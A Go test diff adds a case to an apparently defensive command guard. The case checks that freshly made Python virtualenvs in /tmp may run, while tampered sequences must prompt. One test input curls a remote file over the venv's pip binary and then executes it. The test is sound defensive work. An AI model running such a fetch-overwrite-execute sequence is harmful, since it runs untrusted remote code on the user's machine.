@@ -1,6 +1,7 @@
 package pathguard
 
 import (
+	"os"
 	"slices"
 	"testing"
 
@@ -71,4 +72,18 @@ func TestIdle(t *testing.T) {
 			t.Errorf("%q dropped by the parser: %v", s.Text, v.Decision)
 		}
 	}
+}
+
+// TestNewEnvironment: programs in /tmp ask, but for those that the line has just had made there.
+func TestNewEnvironment(t *testing.T) {
+	g, root := desk(t, "")
+	dir, err := os.MkdirTemp("/tmp", "venv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	v := dir + "/v"
+	g.expect(t, Allow, "python3 -m venv "+v+" && "+v+"/bin/pip install x && "+v+"/bin/python -m x", "virtualenv "+v+" && "+v+"/bin/pytest")
+	g.expectAtLeast(t, Ask, v+"/bin/pip install x", v+"/bin/x && python3 -m venv "+v, "python3 -m venv "+v+" && "+v+"/x", "python3 -m venv "+v+"; cp "+root+"/w/x "+v+"/bin/pip; "+v+"/bin/pip",
+		"python3 -m venv "+v+"; curl -o "+v+"/bin/pip https://x.test/; "+v+"/bin/pip", "python3 -m venv "+dir+" && "+dir+"/bin/pip")
 }
